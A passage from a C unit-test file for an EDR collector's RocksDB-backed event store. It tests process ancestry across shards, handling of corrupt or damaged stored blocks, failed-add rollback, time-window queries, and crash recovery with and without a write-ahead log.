    int nh = 0, np = 0;
    assert_int_equal(edr_store_hash_processes(r, sha, hash_fn, &np), 0);
    assert_int_equal(edr_store_hash_hosts(r, sha, hash_fn_hosts, &nh), 0);
    assert_int_equal(np + nh, 0);
    edr_store_destroy(r);
    assert_int_equal(edr_store_writer_compact(w), 0);
    assert_int_equal(edr_store_writer_compact(w), 0); /* merged results are filtered next time */
    r = open_reader();
    struct anc a = {0};
    assert_int_equal(edr_store_process_ancestry(r, kid, 0, anc_exe_fn, &a), 0);
    assert_int_equal(a.n, 2);
    assert_string_equal(a.exe, "/usr/sbin/sshd");
    /* the parent sshd reported by its child is no record of its own */
    Edr__V1__ProcessRecord *p;
    edr_arena_t ar;
    edr_arena_init(&ar, 4096);
    assert_int_equal(edr_store_process_get(r, none, &ar, &p), EDR_ENOENT);
    edr_arena_close(&ar);
    edr_store_destroy(r);
    edr_store_writer_destroy(w);
}

/* A host moved to another shard (more partitions): its sshd acted only in
 * shard 0, its child only in shard 1, where sshd has a stub (the child's
 * activity). The ancestry finds sshd's record whatever shard answered last;
 * and parent links that loop (damaged data) end the walk. */
static void test_ancestry_across_shards(void **state)
{
    (void)state;
    char err[512];
    edr_store_writer_t *w0 = open_writer();
    edr_store_writer_t *w1 = edr_store_writer_open(dir, 1, NULL, err, sizeof(err));
    assert_non_null(w1);
    uint8_t hid[16] = {0xcc}, par[16], kid[16], none[16], a1[16], a2[16];
    memset(par, 0x51, 16);
    memset(kid, 0x52, 16);
    memset(none, 0x53, 16);
    memset(a1, 0x61, 16);
    memset(a2, 0x62, 16);
    Edr__V1__ProcessStart ps = EDR__V1__PROCESS_START__INIT;
    ps.exe = "/usr/sbin/sshd";
    uint64_t t0 = 1767225600000000000ull;
    add_proc(w0, hid, 1, t0, par, none, &ps);
    add_proc(w1, hid, 2, t0 + 1000, kid, par, NULL);
    /* a1's parent is a2 and a2's is a1 */
    add_proc(w1, hid, 3, t0 + 2000, a1, a2, NULL);
    add_proc(w1, hid, 4, t0 + 3000, a2, a1, NULL);
    edr_store_writer_destroy(w0);
    edr_store_writer_destroy(w1);

    edr_store_t *r = open_reader();
    assert_int_equal(edr_store_shards(r), 2);
    for (int round = 0; round < 2; round++) { /* whichever shard answered last */
        struct anc a = {0};
        assert_int_equal(edr_store_process_ancestry(r, kid, 0, anc_exe_fn, &a), 0);
        if (a.n != 2 || strcmp(a.exe, "/usr/sbin/sshd") != 0)
            fail_msg("round %d: ancestry of %d records, second '%s'", round, a.n, a.exe);
    }
    struct anc a = {0};
    assert_int_equal(edr_store_process_ancestry(r, a1, 0, anc_exe_fn, &a), 0);
    assert_int_equal(a.n, 2); /* a1, a2, then a1 again is not repeated */
    edr_store_destroy(r);
}

/* A stored batch whose serialized form has an events field of the wrong
 * wire type after a matching event: protobuf-c refuses it, and so do the
 * selective walks (the raw walk delivered the event before it twice). */
static void test_wrong_wire_type_refused(void **state)
{
    (void)state;
    edr_store_writer_t *w = open_writer();
    uint8_t hid[16], ent[16];
    memset(hid, 0x24, 16);
    memset(ent, 0x71, 16);
    Edr__V1__ProcessExit px = EDR__V1__PROCESS_EXIT__INIT;
    Edr__V1__Event e = EDR__V1__EVENT__INIT;
    e.entity_id.data = ent;
    e.parent_entity_id.data = ent;
    e.pid = 9;
    e.body_case = EDR__V1__EVENT__BODY_PROCESS_EXIT;
    e.process_exit = &px;
    Edr__V1__SensorInfo si;
    Edr__V1__Event *evs[1];
    Edr__V1__EventBatch b;
    one_batch(&b, &si, evs, hid, 1, 1767225600000000000ull, &e);
    uint8_t raw[1024];
    size_t n = edr__v1__event_batch__get_packed_size(&b);
    assert_true(n + 2 <= sizeof(raw));
    edr__v1__event_batch__pack(&b, raw);
    raw[n++] = 5 << 3 | 0; /* field 5 (events) as a varint */
    raw[n++] = 1;
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL);
    const uint8_t *fr;
    size_t fl;
    assert_int_equal(edr_frame_encode_raw(enc, raw, n, 0, &fr, &fl), 0);
    assert_int_equal(edr_store_writer_add(w, fr, fl, &b), 0);
    assert_int_equal(edr_store_writer_commit(w), 0);
    edr_frame_ctx_destroy(enc);
    edr_store_writer_destroy(w);
    edr_store_t *r = open_reader();
    uint64_t got = 0;
    assert_int_equal(edr_store_entity_events(r, ent, 0, 0, count_ev, &got), 0);
    assert_int_equal(got, 0);
    assert_int_equal(edr_store_bad_blocks(r), 1);
    assert_int_equal(edr_store_host_events(r, hid, 0, 0, count_ev, &got), 0);
    assert_int_equal(got, 0);
    edr_store_destroy(r);
}

static void alarm_fail(int sig)
{
    (void)sig;
    static const char msg[] = "test_store: a read did not return in 20 s (hung)\n";
    (void)!write(2, msg, sizeof(msg) - 1);
    _exit(1);
}

/* Shard 0 of the test's store opened by RocksDB itself (no writer open),
 * to damage it. */
typedef struct {
    rocksdb_t *db;
    rocksdb_options_t *cfo[CF__COUNT], *dbo;
    rocksdb_column_family_handle_t *cf[CF__COUNT];
    rocksdb_writeoptions_t *wo;
    rocksdb_readoptions_t *ro;
} raw_t;

static void raw_open(raw_t *x)
{
    char path[4096], *rerr = NULL;
    edr__store_shard_path(dir, 0, path, sizeof(path));
    x->dbo = rocksdb_options_create();
    edr__store_cf_options(x->cfo, NULL, NULL, NULL);
    x->db = rocksdb_open_column_families(x->dbo, path, CF__COUNT, edr__store_cf_names,
                                         (const rocksdb_options_t *const *)x->cfo, x->cf, &rerr);
    assert_null(rerr);
    x->wo = rocksdb_writeoptions_create();
    x->ro = rocksdb_readoptions_create();
}

static void raw_put(raw_t *x, int cf, const void *k, size_t kl, const void *v, size_t vl)
{
    char *rerr = NULL;
    rocksdb_put_cf(x->db, x->wo, x->cf[cf], k, kl, v, vl, &rerr);
    assert_null(rerr);
}

static void raw_close(raw_t *x)
{
    rocksdb_writeoptions_destroy(x->wo);
    rocksdb_readoptions_destroy(x->ro);
    for (int i = 0; i < CF__COUNT; i++)
        rocksdb_column_family_handle_destroy(x->cf[i]);
    rocksdb_close(x->db);
    for (int i = 0; i < CF__COUNT; i++)
        rocksdb_options_destroy(x->cfo[i]);
    rocksdb_options_destroy(x->dbo);
}

/* A corrupt host number in a shard's meta (one past 2^31) is skipped by
 * readers: they answer, instead of looping for ever while sizing their map. */
static void test_corrupt_host_number(void **state)
{
    (void)state;
    memset(&tgt, 0, sizeof(tgt));
    edr_store_writer_t *w = open_writer();
    fill(w, 5);
    edr_store_writer_destroy(w);

    raw_t x;
    raw_open(&x);
    uint8_t k[5] = {'N', 0x80, 0, 0, 0}, v[16];
    memset(v, 0xee, sizeof(v));
    raw_put(&x, CF_META, k, sizeof(k), v, sizeof(v));
    raw_close(&x);

    edr_store_t *r = open_reader();
    signal(SIGALRM, alarm_fail);
    alarm(20);
    uint64_t n = 0;
    assert_int_equal(edr_store_entity_events(r, tgt.entity, 0, 0, count_ev, &n), 0);
    alarm(0);
    assert_int_equal(n, tgt.n_events);
    edr_store_destroy(r);
}


/* A damaged stored block (its frame does not decode) is left out of an
 * answer, logged and counted (edr_store_bad_blocks), so the caller can say
 * the answer is incomplete; the host's other blocks still answer. */
static void test_damaged_block_counted(void **state)
{
    (void)state;
    edr_store_writer_t *w = open_writer();
    uint8_t hid[16], ent[16];
    memset(hid, 0x42, 16);
    memset(ent, 0x17, 16);
    uint64_t base = 1700000000ull * 1000000000ull;
    for (uint64_t seq = 1; seq <= 3; seq++) {
        Edr__V1__ProcessExit px = EDR__V1__PROCESS_EXIT__INIT;
        Edr__V1__Event e = EDR__V1__EVENT__INIT;
        e.entity_id.data = ent;
        e.parent_entity_id.data = ent;
        e.pid = 7;
        e.body_case = EDR__V1__EVENT__BODY_PROCESS_EXIT;
        e.process_exit = &px;
        if (seq != 2) {
            add_one(w, hid, seq, base + seq * 1000, &e);
            continue;
        }
        /* block 2: a valid batch indexed, its stored frame damaged */
        Edr__V1__SensorInfo si;
        Edr__V1__Event *evs[1];
        Edr__V1__EventBatch b;
        one_batch(&b, &si, evs, hid, seq, base + seq * 1000, &e);
        edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL);
        const uint8_t *fr;
        size_t fl;
        assert_int_equal(edr_frame_encode(enc, &b, 0, &fr, &fl), 0);
        uint8_t bad[4096];
        assert_true(fl <= sizeof(bad));
        memcpy(bad, fr, fl);
        bad[fl - 1] ^= 0xff; /* the checksum no longer matches */
        assert_int_equal(edr_store_writer_add(w, bad, fl, &b), 0);
        assert_int_equal(edr_store_writer_commit(w), 0);
        edr_frame_ctx_destroy(enc);
    }
    edr_store_writer_destroy(w);
    edr_store_t *r = open_reader();
    assert_int_equal(edr_store_bad_blocks(r), 0);
    uint64_t n = 0;
    assert_int_equal(edr_store_host_events(r, hid, 0, 0, count_ev, &n), 0);
    assert_int_equal(n, 2);
    assert_int_equal(edr_store_bad_blocks(r), 1);
    n = 0;
    assert_int_equal(edr_store_entity_events(r, ent, 0, 0, count_ev, &n), 0);
    assert_int_equal(n, 2);
    assert_int_equal(edr_store_bad_blocks(r), 2);
    edr_store_destroy(r);
}

/* A batch whose add fails midway (out of memory) leaves nothing behind:
 * neither its block nor its index entries commit with the batches around
 * it, and the same batch added again is stored, not taken for a duplicate. */
static void test_failed_add_taken_back(void **state)
{
    (void)state;
    char err[512];
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    uint8_t hid[16] = {0xab}, par[16], kid[2][16];
    memset(par, 0x41, 16);
    memset(kid[0], 0x42, 16);
    memset(kid[1], 0x43, 16);
    Edr__V1__SensorInfo si = EDR__V1__SENSOR_INFO__INIT;
    si.host_id.data = hid;
    si.host_id.len = 16;
    Edr__V1__ProcessFork pf = EDR__V1__PROCESS_FORK__INIT;
    Edr__V1__Event e = EDR__V1__EVENT__INIT, *evs[1] = {&e};
    e.parent_entity_id.data = par;
    e.entity_id.len = e.parent_entity_id.len = 16;
    e.body_case = EDR__V1__EVENT__BODY_PROCESS_FORK;
    e.process_fork = &pf;
    Edr__V1__EventBatch b = EDR__V1__EVENT_BATCH__INIT;
    b.schema_version = 1;
    b.sensor = &si;
    b.events = evs;
    b.n_events = 1;
    b.base_time_ns = 1767225600000000000ull;
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL);
    const uint8_t *fr;
    size_t fl;
    int expect[3] = {0, EDR_ENOMEM, 0};
    for (int i = 0; i < 3; i++) { /* seq 1; seq 2 failing; seq 2 again */
        b.seq = i ? 2 : 1;
        e.entity_id.data = kid[i ? 1 : 0];
        edr__store_fail_add = i == 1;
        assert_int_equal(edr_frame_encode(enc, &b, 0, &fr, &fl), 0);
        assert_int_equal(edr_store_writer_add(w, fr, fl, &b), expect[i]);
        edr_store_writer_set_offset(w, i + 1); /* as the collector does: the commit writes */
        assert_int_equal(edr_store_writer_commit(w), 0);
        edr_store_t *r = edr_store_open(dir, NULL, err, sizeof(err));
        assert_non_null(r);
        int nk = 0;
        uint64_t nb = 0;
        assert_int_equal(edr_store_process_children(r, par, kid_count_fn, &nk), 0);
        assert_int_equal(edr_store_host_blocks(r, hid, 0, 0, count_blk, &nb), 0);
        assert_int_equal(nk, i ? (i == 1 ? 1 : 2) : 1);
        assert_int_equal(nb, (uint64_t)nk);
        edr_store_destroy(r);
    }
    assert_int_equal(edr__store_fail_add, 0);
    edr_frame_ctx_destroy(enc);
    edr_store_writer_destroy(w);
}

/* Every event as read by a full block decode, for checking entity queries. */
typedef struct {
    uint8_t entity[16];
    uint64_t t, h;
} seen_t;
typedef struct {
    seen_t *v;
    size_t n, cap;
    const uint8_t *entity; /* when set: only collect, no filtering */
} seen_list_t;

/* FNV-1a over the event as serialized in memory form, its time, block and sensor. */
static uint64_t ev_hash(const Edr__V1__EventBatch *b, const Edr__V1__Event *e, const edr_block_key_t *k)
{
    static uint8_t buf[1 << 16];
    size_t n = edr__v1__event__get_packed_size(e);
    assert_true(n <= sizeof(buf));
    edr__v1__event__pack(e, buf);
    uint64_t h = 1469598103934665603ull, x[3] = {b->base_time_ns + (uint64_t)e->time_offset_ns,
                                                 k->seq, b->seq};
    for (size_t i = 0; i < n; i++)
        h = (h ^ buf[i]) * 1099511628211ull;
    for (size_t i = 0; i < sizeof(x); i++)
        h = (h ^ ((const uint8_t *)x)[i]) * 1099511628211ull;
    const char *hn = b->sensor && b->sensor->hostname ? b->sensor->hostname : "";
    for (; *hn; hn++)
        h = (h ^ (uint8_t)*hn) * 1099511628211ull;
    return h;
}

static int seen_cb(const Edr__V1__EventBatch *b, const Edr__V1__Event *e, const edr_block_key_t *k,
                   void *ud)
{
    seen_list_t *l = ud;
    if (l->n == l->cap) {
        l->cap = l->cap ? l->cap * 2 : 1024;
        l->v = realloc(l->v, l->cap * sizeof(*l->v));
        assert_non_null(l->v);
    }
    seen_t *x = &l->v[l->n++];
    memset(x->entity, 0, 16);
    if (e->entity_id.len == 16)
        memcpy(x->entity, e->entity_id.data, 16);
    x->t = b->base_time_ns + (uint64_t)e->time_offset_ns;
    x->h = ev_hash(b, e, k);
    return 0;
}

struct hosts_acc {
    uint8_t ids[HOSTS][16];
    int n;
};

static int hosts_cb(const Edr__V1__HostRecord *h, const Edr__V1__Event *health, void *ud)
{
    (void)health;
    struct hosts_acc *a = ud;
    assert_true(a->n < HOSTS);
    memcpy(a->ids[a->n++], h->host_id.data, 16);
    return 0;
}

/* The entity query decodes only the events it returns: it must return
 * exactly what a full decode of every block, filtered, returns (same events,
 * same fields, same order), for many processes and time windows. */
static void test_entity_events_exact(void **state)
{
    (void)state;
    char err[512];
    memset(&tgt, 0, sizeof(tgt));
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    fill(w, 5);
    edr_store_t *r = edr_store_open(dir, NULL, err, sizeof(err));
    assert_non_null(r);
    struct hosts_acc ha = {0};
    assert_int_equal(edr_store_hosts(r, hosts_cb, &ha), 0);
    assert_int_equal(ha.n, HOSTS);
    seen_list_t all = {0};
    for (int i = 0; i < ha.n; i++)
        assert_int_equal(edr_store_host_events(r, ha.ids[i], 0, 0, seen_cb, &all), 0);
    assert_int_equal(all.n, (size_t)HOSTS * BATCHES * EVENTS);
    uint64_t t_min = UINT64_MAX, t_max = 0;
    for (size_t i = 0; i < all.n; i++) {
        t_min = all.v[i].t < t_min ? all.v[i].t : t_min;
        t_max = all.v[i].t > t_max ? all.v[i].t : t_max;
    }
    int checked = 0, nonempty = 0;
    for (size_t pick = 0; pick < all.n; pick += all.n / 97) {
        const uint8_t *ent = all.v[pick].entity;
        uint64_t win[4][2] = {{0, 0},
                              {all.v[pick].t, 0},
                              {0, all.v[pick].t + 1},
                              {t_min + (t_max - t_min) / 3, t_min + 2 * (t_max - t_min) / 3}};
        for (int wi = 0; wi < 4; wi++) {
            seen_list_t got = {0};
            assert_int_equal(edr_store_entity_events(r, ent, win[wi][0], win[wi][1], seen_cb, &got),
                             0);
            size_t j = 0;
            for (size_t i = 0; i < all.n; i++) {
                const seen_t *x = &all.v[i];
                if (memcmp(x->entity, ent, 16) || x->t < win[wi][0] ||
                    (win[wi][1] && x->t >= win[wi][1]))
                    continue;
                assert_true(j < got.n);
                assert_memory_equal(got.v[j].entity, ent, 16);
                assert_int_equal(got.v[j].t, x->t);
                assert_int_equal(got.v[j].h, x->h);
                j++;
            }
            assert_int_equal(j, got.n);
            nonempty += got.n > 0;
            checked++;
            free(got.v);
        }
    }
    assert_true(checked >= 97 * 4);
    assert_true(nonempty >= 97); /* the full window of a picked event always holds it */
    free(all.v);
    edr_store_destroy(r);
    edr_store_writer_destroy(w);
}

/* A batch that starts in one hour and has events in the next, and one event
 * two hours before its base time (an import cut by count can span hours):
 * time-window queries find each event in its own hour. The reach of more
 * than an hour is that host's own (its reads widen, not every host's of the
 * shard); the shared span covers the turn of an hour only. */
static void test_window_across_hours(void **state)
{
    (void)state;
    edr_store_writer_t *w = open_writer();
    edr_synth_opts_t so = {.hosts = 2, .seed = 3};
    edr_synth_t *sy = edr_synth_new(&so);
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL), *dec = edr_frame_ctx_new(NULL);
    edr_arena_t a;
    edr_arena_init(&a, 1 << 16);
    Edr__V1__EventBatch *b = edr_synth_next_batch(sy, 0, 10, &a);
    assert_non_null(b);
    const uint64_t hour = EDR_STORE_BUCKET_NS, h0 = 490000 * hour; /* an hour's start */
    b->base_time_ns = h0 - 1000000000ull; /* hh:59:59 */
    for (size_t i = 0; i < b->n_events; i++)
        b->events[i]->time_offset_ns = i == 0 ? 0 : (int64_t)(2000000000ull + i); /* next hour */
    b->events[9]->time_offset_ns = -(int64_t)(2 * hour); /* two hours before the base */
    const uint8_t *fr;
    size_t fl;
    assert_int_equal(edr_frame_encode(enc, b, 0, &fr, &fl), 0);
    Edr__V1__EventBatch *d;
    assert_int_equal(edr_frame_decode(dec, fr, fl, &d), 0);
    assert_int_equal(edr_store_writer_add(w, fr, fl, d), 0);
    edr_store_writer_set_offset(w, 1);
    assert_int_equal(edr_store_writer_commit(w), 0);
    uint8_t host[16], ent[16];
    memcpy(host, d->sensor->host_id.data, 16);
    assert_int_equal(d->events[1]->entity_id.len, 16);
    memcpy(ent, d->events[1]->entity_id.data, 16);
    uint64_t ent_next_hour = 0;
    for (size_t i = 1; i < 9; i++)
        ent_next_hour += !memcmp(d->events[i]->entity_id.data, ent, 16);

    edr_store_t *r = open_reader();
    uint64_t n = 0;
    assert_int_equal(edr_store_host_events(r, host, h0, h0 + hour, count_ev, &n), 0);
    assert_int_equal(n, 8); /* events 1..8 */
    n = 0;
    assert_int_equal(edr_store_host_blocks(r, host, h0, h0 + hour, count_blk, &n), 0);
    assert_int_equal(n, 1);
    n = 0;
    uint64_t early = h0 - 1000000000ull - 2 * hour;
    assert_int_equal(edr_store_host_events(r, host, early, early + 1, count_ev, &n), 0);
    assert_int_equal(n, 1); /* event 9 */
    n = 0;
    assert_int_equal(edr_store_entity_events(r, ent, h0, h0 + hour, count_ev, &n), 0);
    assert_int_equal(n, ent_next_hour);
    edr_store_stats_t st;
    assert_int_equal(edr_store_stats(r, &st), 0);
    assert_int_equal(st.span_hours, 0);
    assert_int_equal(st.wide_span_hosts, 1);
    assert_int_equal(st.wide_span_hours, 2);
    edr_store_destroy(r);

    /* another host at the turn of the hour: the shared span; then, after a
     * restart of the writer, the first host reaches 3 hours ahead */
    edr_arena_reset(&a);
    b = edr_synth_next_batch(sy, 1, 4, &a);
    b->base_time_ns = h0 - 1000000000ull;
    for (size_t i = 0; i < b->n_events; i++)
        b->events[i]->time_offset_ns = (int64_t)(2000000000ull + i);
    assert_int_equal(edr_frame_encode(enc, b, 0, &fr, &fl), 0);
    assert_int_equal(edr_frame_decode(dec, fr, fl, &d), 0);
    assert_int_equal(edr_store_writer_add(w, fr, fl, d), 0);
    uint8_t host1[16];
    memcpy(host1, d->sensor->host_id.data, 16);
    edr_store_writer_set_offset(w, 2);
    assert_int_equal(edr_store_writer_commit(w), 0);
    edr_store_writer_destroy(w);
    w = open_writer();
    edr_arena_reset(&a);
    b = edr_synth_next_batch(sy, 0, 4, &a);
    b->base_time_ns = h0 + 10 * hour;
    b->events[3]->time_offset_ns = (int64_t)(3 * hour);
    assert_int_equal(edr_frame_encode(enc, b, 0, &fr, &fl), 0);
    assert_int_equal(edr_frame_decode(dec, fr, fl, &d), 0);
    assert_int_equal(edr_store_writer_add(w, fr, fl, d), 0);
    edr_store_writer_set_offset(w, 3);
    assert_int_equal(edr_store_writer_commit(w), 0);
    r = open_reader();
    assert_int_equal(edr_store_stats(r, &st), 0);
    assert_int_equal(st.span_hours, 1);
    assert_int_equal(st.wide_span_hosts, 1);
    assert_int_equal(st.wide_span_hours, 3); /* 2 before, 3 after: the one loaded was kept */
    n = 0;
    assert_int_equal(edr_store_host_events(r, host, h0 + 13 * hour, h0 + 14 * hour, count_ev, &n), 0);
    assert_int_equal(n, 1);
    n = 0;
    assert_int_equal(edr_store_host_events(r, host, early, early + 1, count_ev, &n), 0);
    assert_int_equal(n, 1);
    n = 0;
    assert_int_equal(edr_store_host_events(r, host1, h0, h0 + hour, count_ev, &n), 0);
    assert_int_equal(n, 4);
    edr_store_destroy(r);
    edr_store_writer_destroy(w);
    edr_arena_close(&a);
    edr_frame_ctx_destroy(enc);
    edr_frame_ctx_destroy(dec);
    edr_synth_destroy(sy);
}

struct stop_ctx {
    int calls, ret;
};

static int stop_ev(const Edr__V1__EventBatch *b, const Edr__V1__Event *e, const edr_block_key_t *k,
                   void *ud)
{
    (void)b;
    (void)e;
    (void)k;
    struct stop_ctx *c = ud;
    c->calls++;
    return c->ret;
}

static int stop_blk(const edr_block_info_t *bi, void *ud)
{
    (void)bi;
    struct stop_ctx *c = ud;
    c->calls++;
    return c->ret;
}

/* A callback's non-zero return stops a walk at once and is what the walk
 * returns, whatever its value. */
static void test_callback_stop(void **state)
{
    (void)state;
    memset(&tgt, 0, sizeof(tgt));
    edr_store_writer_t *w = open_writer();
    fill(w, 5);
    assert_true(tgt.have && tgt.n_events >= 2);
    edr_store_t *r = open_reader();
    struct hosts_acc ha = {0};
    assert_int_equal(edr_store_hosts(r, hosts_cb, &ha), 0);
    for (int ret = 1; ret <= 3; ret++) {
        struct stop_ctx c = {0, ret};
        assert_int_equal(edr_store_entity_events(r, tgt.entity, 0, 0, stop_ev, &c), ret);
        assert_int_equal(c.calls, 1);
        c.calls = 0;
        assert_int_equal(edr_store_host_events(r, ha.ids[0], 0, 0, stop_ev, &c), ret);
        assert_int_equal(c.calls, 1);
        c.calls = 0;
        assert_int_equal(edr_store_host_blocks(r, ha.ids[0], 0, 0, stop_blk, &c), ret);
        assert_int_equal(c.calls, 1);
    }
    edr_store_destroy(r);
    edr_store_writer_destroy(w);
}

/* A synthetic stream of batches with the codec contexts to frame them. */
typedef struct stream {
    edr_synth_t *s;
    edr_frame_ctx_t *enc, *dec;
    edr_arena_t a;
} stream_t;

static int stream_open(stream_t *st, uint64_t seed)
{
    edr_synth_opts_t so = {.hosts = HOSTS, .seed = seed};
    st->s = edr_synth_new(&so);
    st->enc = edr_frame_ctx_new(NULL);
    st->dec = edr_frame_ctx_new(NULL);
    edr_arena_init(&st->a, 1 << 16);
    return st->s && st->enc && st->dec ? 0 : -1;
}

static void stream_close(stream_t *st)
{
    edr_arena_close(&st->a);
    edr_frame_ctx_destroy(st->enc);
    edr_frame_ctx_destroy(st->dec);
    edr_synth_destroy(st->s);
}

/* Writes batch number i (0-based, host i % HOSTS) of the stream as one
 * commit whose offset is i + 1. */
static void commit_one(edr_store_writer_t *w, stream_t *st, int i)
{
    Edr__V1__EventBatch *b = edr_synth_next_batch(st->s, (uint32_t)(i % HOSTS), EVENTS, &st->a);
    assert_non_null(b);
    assert_int_equal(encode_add(w, st->enc, st->dec, b), 0);
    edr_store_writer_set_offset(w, i + 1);
    assert_int_equal(edr_store_writer_commit(w), 0);
    edr_arena_reset(&st->a);
}

enum { NW_FLUSHED = 30, NW_TOTAL = 70 };

static uint64_t blocks_seen(void)
{
    char err[512];
    edr_store_t *r = edr_store_open(dir, NULL, err, sizeof(err));
    if (!r)
        fail_msg("reader: %s", err);
    edr_store_stats_t ss;
    assert_int_equal(edr_store_stats(r, &ss), 0);
    edr_store_destroy(r);
    return ss.blocks;
}

/* The writer of test_no_wal_flush_and_crash and test_want_wal, in its
 * own process: commits FLUSHED batches, flushes them with a tick, commits the
 * rest, and is killed (-9) before another flush. Steps are paced by the test
 * through pipes. wal: the writer is asked to write the WAL before the tick
 * (edr_store_writer_want_wal). */
static int no_wal_child(const char *store, int go, int ready, int wal)
{
    char err[512], c = 0;
    edr_store_opts_t o = {.no_wal = 1, .flush_interval_ns = 100000000ull};
    alarm(60); /* a failed check in the test leaves it waiting on a pipe */
    edr_store_writer_t *w = edr_store_writer_open(store, 0, &o, err, sizeof(err));
    stream_t st;
    if (stream_open(&st, 7) || !w)
        return 2;
    for (int i = 0; i < NW_FLUSHED; i++)
        commit_one(w, &st, i);
    /* 1: committed, not flushed */
    if (write(ready, "1", 1) != 1 || read(go, &c, 1) != 1)
        return 3;
    usleep(150000); /* past the interval */
    edr_store_writer_want_wal(w, wal);
    if (edr_store_writer_tick(w) != 0)
        return 4;
    usleep(500000); /* the flush it started is done */
    if (write(ready, "2", 1) != 1 || read(go, &c, 1) != 1)
        return 5;
    for (int i = NW_FLUSHED; i < NW_TOTAL; i++) /* never flushed: the interval is not up */
        commit_one(w, &st, i);
    if (write(ready, "3", 1) != 1 || read(go, &c, 1) != 1)
        return 6;
    kill(getpid(), SIGKILL);
    return 7;
}

/* Runs no_wal_child and checks what readers see at each step and what is
 * stored after its kill -9: visible[i] blocks at step i (after the first
 * commits, after the tick, after the last commits), then `kept` blocks with
 * the offset after them. Completes the store from there, as the collector
 * would by reading again. */
static void run_no_wal_child(int wal, const uint64_t visible[3], int kept)
{
    int go[2], ready[2];
    assert_int_equal(pipe(go), 0);
    assert_int_equal(pipe(ready), 0);
    pid_t pid = fork();
    assert_true(pid >= 0);
    if (pid == 0) {
        /* a new process image: RocksDB's background threads belong to the
         * process-wide default Env, which a fork does not copy */
        char fds[2][16], self[64];
        snprintf(fds[0], sizeof(fds[0]), "%d", go[0]);
        snprintf(fds[1], sizeof(fds[1]), "%d", ready[1]);
        char wb[32];
        snprintf(self, sizeof(self), "/proc/%d/exe", (int)getppid());
        snprintf(wb, sizeof(wb), "%d", wal);
        execl(self, "test_store", "--no-wal-child", dir, fds[0], fds[1], wb, (char *)NULL);
        _exit(9);
    }
    close(go[0]); /* a child that dies early ends the reads below */
    close(ready[1]);
    char c;
    for (int step = 0; step < 3; step++) {
        assert_int_equal(read(ready[0], &c, 1), 1);
        assert_int_equal(blocks_seen(), visible[step]);
        assert_int_equal(write(go[1], "g", 1), 1);
    }
    int st;
    assert_int_equal(waitpid(pid, &st, 0), pid);
    assert_true(WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL);

    edr_store_writer_t *w = open_writer();
    int64_t off;
    assert_int_equal(edr_store_writer_offset(w, &off), 0);
    assert_int_equal(off, kept);
    assert_int_equal(blocks_seen(), kept);
    /* reading again from the stored offset completes the store, each once */
    stream_t sm;
    assert_int_equal(stream_open(&sm, 7), 0);
    for (int i = 0; i < NW_TOTAL; i++) {
        if (i < off) { /* the stream is replayed from its start: skip what is stored */
            assert_non_null(edr_synth_next_batch(sm.s, (uint32_t)(i % HOSTS), EVENTS, &sm.a));
            edr_arena_reset(&sm.a);
            continue;
        }
        commit_one(w, &sm, i);
    }
    edr_store_writer_destroy(w);
    assert_int_equal(blocks_seen(), NW_TOTAL);
    stream_close(&sm);
    close(go[1]);
    close(ready[0]);
}

/* Without the write-ahead log (what the collector runs with): a commit
 * reaches readers when edr_store_writer_tick() flushes it, and a kill -9
 * loses exactly the commits made since the last flush, offsets included:
 * the stored offset then names the first batch that is not stored, so the
 * collector reads again exactly what is missing. */
static void test_no_wal_flush_and_crash(void **state)
{
    (void)state;
    /* nothing before the flush; the tick's flush; later commits in memory only */
    const uint64_t visible[3] = {0, NW_FLUSHED, NW_FLUSHED};
    run_no_wal_child(0, visible, NW_FLUSHED);
}

/* A writer without the write-ahead log asked to write it after all (the
 * collector does when its consuming thread is not busy) switches at a tick,
 * after flushing what it committed without it: later commits reach readers
 * at once and survive a kill -9, so nothing is read again. */
static void test_want_wal(void **state)
{
    (void)state;
    const uint64_t visible[3] = {0, NW_FLUSHED, NW_TOTAL};
    run_no_wal_child(1, visible, NW_TOTAL);
}

/* The switch to the WAL waits for a flush even when every commit was in a
 * flush asked for before (which may still be running: its commits must be
 * on disk before the first one with the log, or a crash would leave the
 * log's later offset over them). With the log, no flush each interval;
 * back without it, commits are flushed again each interval. */
static void test_want_wal_flushes(void **state)
{
    (void)state;
    char err[512];
    edr_store_opts_t o = {.no_wal = 1, .flush_interval_ns = 20000000ull};
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, &o, err, sizeof(err));
    assert_non_null(w);
    stream_t st;
    assert_int_equal(stream_open(&st, 5), 0);
    commit_one(w, &st, 0);
    usleep(30000);
    unsigned f0 = edr__store_flushes, w0 = edr__store_flush_waits;
    assert_int_equal(edr_store_writer_tick(w), 0); /* the timed flush, not waited for */
    assert_int_equal(edr__store_flushes, f0 + 1);
    assert_int_equal(edr__store_flush_waits, w0);
    assert_int_equal(edr_store_writer_wal(w), 0);
    edr_store_writer_want_wal(w, 1);
    assert_int_equal(edr_store_writer_tick(w), 0); /* nothing unflushed: waits all the same */
    assert_int_equal(edr__store_flush_waits, w0 + 1);
    assert_int_equal(edr_store_writer_wal(w), 1);
    commit_one(w, &st, 1);
    usleep(30000);
    f0 = edr__store_flushes;
    assert_int_equal(edr_store_writer_tick(w), 0);
    assert_int_equal(edr__store_flushes, f0); /* the log holds it */
    edr_store_writer_want_wal(w, 0);
    assert_int_equal(edr_store_writer_tick(w), 0);
    assert_int_equal(edr_store_writer_wal(w), 0);
    commit_one(w, &st, 2);
    usleep(30000);
    assert_int_equal(edr_store_writer_tick(w), 0);
    assert_int_equal(edr__store_flushes, f0 + 1);
    edr_store_writer_destroy(w);
    assert_int_equal(blocks_seen(), 3);
    stream_close(&st);
}

static int blk_keys(const edr_block_info_t *bi, void *ud)
{
    edr_block_key_t *k = ud;
    for (; k->seq; k++) /* the list ends with seq 0 */
        ;
    *k = bi->key;
    return 0;
}

/* The 'f' keys of shard 0 (type byte 'f', 8-byte path hash, a block
 * reference); in *grouped those with other blocks in their value, in
 * *vbytes the length of those values. */
static int file_keys(raw_t *x, int *grouped, size_t *vbytes, uint8_t gk[1 + 8 + BREF_LEN])
{
    rocksdb_iterator_t *it = rocksdb_create_iterator_cf(x->db, x->ro, x->cf[CF_POST]);
    int n = 0;
    *grouped = 0;
